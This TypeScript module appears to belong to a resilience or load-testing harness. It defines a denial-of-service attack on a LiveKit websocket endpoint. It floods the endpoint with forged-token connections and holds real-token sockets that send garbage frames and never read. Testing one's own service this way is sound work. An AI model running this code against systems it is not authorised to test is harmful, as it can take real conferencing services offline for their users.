import { ApiClient } from '../../api/api-client';
import { holdPeers, requestHead, TcpPeers } from '../../network/tcp-peers';
import { clientFrame } from '../../network/websocket-frames';
import type { Attack, AttackTarget } from '../attack';

const connections = 120;
const forgedPerSecond = 200;
const upgrade = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'];
const head = (path: string) => requestHead(`GET ${path}`, ...upgrade, 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==');

/** A token for a room of the attacker's own, as any account gets one. */
async function roomToken({ baseUrl, token }: AttackTarget): Promise<string> {
  const api = new ApiClient(baseUrl, token);
  const { id } = await api.call('POST /events', { body: { event: { name: 'Attack' } } });
  return (await api.call('GET /events/{id}', { params: { id } })).attributes.livekit_token;
}

/** Websockets to LiveKit through the web: some with tokens that are forged, the others send without end and read nothing. */
export const livekitWebsockets: Attack = {
  name: `${forgedPerSecond} websockets a second to LiveKit with forged tokens, and ${connections} with real ones that do not read`,
  async run(target, signal) {
    const strangers = new TcpPeers(target.baseUrl);
    const real = head(`/livekit/rtc?protocol=15&access_token=${await roomToken(target)}`);
    const forged = head(`/livekit/rtc?protocol=15&access_token=${'e'.repeat(200)}.e30.e`);
    const garbage = clientFrame(Buffer.alloc(60_000), 2);
    try {
      await holdPeers(target.baseUrl, signal, {
        count: connections,
        everyMs: 1_000,
        open: (peers) => peers.open(real).pause(),
        onRound(peers) {
          peers.send(garbage);
          for (let count = 0; count < forgedPerSecond; count++) strangers.open(forged).resume();
        },
      });
    } finally {
      strangers.close();
    }
  },
};
